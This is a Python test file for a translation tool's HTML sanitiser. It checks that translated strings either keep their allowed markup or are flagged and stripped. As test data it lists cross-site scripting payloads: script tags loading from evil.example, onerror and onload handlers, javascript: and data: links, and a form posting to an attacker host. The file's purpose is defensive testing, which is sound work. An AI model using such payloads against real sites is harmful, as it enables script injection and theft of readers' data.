"""One HTML allow-list: what the checks accept, the site's page keeps.

Each row: a translation of the English "Text" and whether it is harmless. Harmless: no
check that protects readers reports it and the sanitised page has exactly the markup
markdown-it wrote (only ``rel`` added to links). Hostile: a check reports it and the page
loses something. The property test then asserts the same over generated markup.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reclaim_i18n.build.site import markdown_html, render_markdown
from reclaim_i18n.checks import check_catalog
from reclaim_i18n.config import Config
from reclaim_i18n.html_policy import BLOCK_TAGS, INLINE_TAGS, LINK_REL, sanitise
from reclaim_i18n.pofile import Catalog, Message

# The checks that keep markup and addresses out of a page.
READER_CHECKS = {"html-unsafe", "url-scheme", "url-allowed", "url-idn"}
CONFIG = Config(root=Path("/project"), source_dir=Path("/project/source_content"),
                locales_dir=Path("/project/locales"), build_dir=Path("/project/build"),
                allowed_urls=("https://reclaimyourface.eu/*",), site_url="https://reclaimyourface.eu")
HARMLESS, HOSTILE = True, False

TABLE = [
    ("CO<sub>2</sub>", HARMLESS),
    ("m<sup>2</sup>", HARMLESS),
    ('<span dir="rtl" lang="ar">نص</span>', HARMLESS),
    ("<span dir=rtl lang=he>טקסט</span>", HARMLESS),
    ("Zeile<br>Umbruch", HARMLESS),
    ("Zeile<br/>Umbruch", HARMLESS),
    ("Donau<wbr>dampf<wbr>schiff", HARMLESS),
    ("<em>Text</em> und <strong>fett</strong>", HARMLESS),
    ("<b>Text</b> <i>kursiv</i> <s>alt</s> <del>weg</del>", HARMLESS),
    ("<small>Kleingedrucktes</small>", HARMLESS),
    ("<code>make run</code>", HARMLESS),
    ('<abbr title="Europäische Union">EU</abbr>', HARMLESS),
    ('<span title="onclick=x">Text</span>', HARMLESS),
    ('<a href="https://reclaimyourface.eu/de/" hreflang="de">Text</a>', HARMLESS),
    ('<a href="/de/partners/" title="Partner">Text</a>', HARMLESS),
    ("Text **fett** und [Link](https://reclaimyourface.eu/de/)", HARMLESS),
    ("<img src=x onerror=alert(1)>", HOSTILE),
    ('<a href="javascript:alert(1)">Text</a>', HOSTILE),
    ('<a href="&#106;avascript:alert(1)">Text</a>', HOSTILE),
    ("[Text](javascript:alert(1))", HOSTILE),
    ('<a href="data:text/html,<b>x</b>">Text</a>', HOSTILE),
    ('<a href="ftp://reclaimyourface.eu/de/">Text</a>', HOSTILE),
    ("<script>alert(1)</script>", HOSTILE),
    ("Text <SCRIPT src=//evil.example/x.js></SCRIPT>", HOSTILE),
    ('<span style="display:none">Text</span>', HOSTILE),
    ('<span onmouseover="alert(1)">Text</span>', HOSTILE),
    ('<a href="https://reclaimyourface.eu/" onclick="steal()">Text</a>', HOSTILE),
    ("<iframe src=https://evil.example></iframe>", HOSTILE),
    ("<style>body{display:none}</style>Text", HOSTILE),
    ('<svg onload="alert(1)"></svg>Text', HOSTILE),
    ('<form action="https://evil.example/"><input name=p></form>', HOSTILE),
    ('<span class="admin">Text</span>', HOSTILE),
    ('<span id="main">Text</span>', HOSTILE),
    ("<u>Text</u>", HOSTILE),
    ("Text <!-- versteckt -->", HOSTILE),
]


def reported(translation: str) -> set[str]:
    """The reader-protecting checks that report ``translation`` of the English "Text"."""
    header = ("Language: de\nContent-Type: text/plain; charset=UTF-8\n"
              "Plural-Forms: nplurals=2; plural=(n != 1);\n")
    catalog = Catalog(header=Message(msgid="", msgstr=header, line=1, msgstr_line=2),
                      messages=[Message(msgid="Text", msgstr=translation, msgctxt="page/field",
                                        line=3, msgstr_line=4)])
    return {f.check for f in check_catalog(catalog, "de", CONFIG)} & READER_CHECKS


class _Markup(HTMLParser):
    """Tags (with their attributes, sorted), text and comments: what a reader's browser
    makes of a fragment, independent of quoting and spelling."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.items: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        kept = sorted((k, v) for k, v in attrs if not (tag == "a" and (k, v) == ("rel", LINK_REL)))
        self.items.append(("<", tag, tuple(kept)))

    def handle_startendtag(self, tag, attrs):   # <br/> is <br>
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self.items.append(("</", tag))

    def handle_data(self, data):
        if self.items and self.items[-1][0] == "text":
            self.items[-1] = ("text", self.items[-1][1] + data)
        else:
            self.items.append(("text", data))

    def handle_comment(self, data):
        self.items.append(("<!--", data))


def markup(html: str) -> list[tuple]:
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser.items


def page_keeps(translation: str) -> bool:
    """The sanitised page has the markup markdown-it wrote, all of it."""
    written = markdown_html(translation)
    return markup(sanitise(written)) == markup(written)


@pytest.mark.parametrize("translation, harmless", TABLE, ids=[row[0][:40] for row in TABLE])
def test_what_the_checks_accept_the_page_keeps(translation, harmless):
    found = reported(translation)
    assert (not found) is harmless, found
    assert page_keeps(translation) is harmless, sanitise(markdown_html(translation))


def test_the_page_is_the_sanitised_markdown():
    assert render_markdown("CO<sub>2</sub>") == "<p>CO<sub>2</sub></p>"
    assert render_markdown('<span dir="rtl" lang="ar">x</span>') == (
        '<p><span dir="rtl" lang="ar">x</span></p>')
    assert render_markdown("<img src=x onerror=alert(1)>Text") == "<p>Text</p>"


def test_translators_write_block_structure_as_markdown():
    # The page keeps Markdown's structure; the check wants it as Markdown, not as tags.
    assert page_keeps("# Titel\n\n- eins\n- zwei\n\n> Zitat\n\n1. a\n2. b")
    assert not INLINE_TAGS & BLOCK_TAGS
    assert reported("<p>Text</p>") == {"html-unsafe"}


_TAGS = sorted(INLINE_TAGS - {"a", "br", "wbr"}) + ["u", "font", "iframe", "object", "marquee"]
_VOID = ["br", "wbr", "img", "input", "hr"]
_ATTRS = ["title", "lang", "dir", "hreflang", "style", "onclick", "onerror", "class", "id",
          "href", "src"]
_URLS = ["https://reclaimyourface.eu/de/", "/de/partners/", "#top", "mailto:info@edri.org",
         "javascript:alert(1)", "ftp://reclaimyourface.eu/", "data:text/html,x",
         "https://evil.example/"]


@st.composite
def _element(draw) -> str:
    tag = draw(st.sampled_from(["a"] + _TAGS + _VOID))
    names = draw(st.lists(st.sampled_from(_ATTRS), max_size=3, unique=True))
    attrs = "".join(
        f' {n}="{draw(st.sampled_from(_URLS))}"' if n in ("href", "src")
        else f' {n}="{draw(st.sampled_from(["rtl", "de", "x y"]))}"' for n in names)
    if tag in _VOID:
        return f"<{tag}{attrs}>"
    return f"<{tag}{attrs}>{draw(st.sampled_from(['Text', 'CO', '2']))}</{tag}>"


@settings(max_examples=300, deadline=None)
@given(st.lists(_element(), min_size=1, max_size=4))
def test_whatever_the_checks_accept_the_page_keeps(elements):
    translation = "Text " + " ".join(elements)
    if not reported(translation):
        assert page_keeps(translation), (translation, sanitise(markdown_html(translation)))
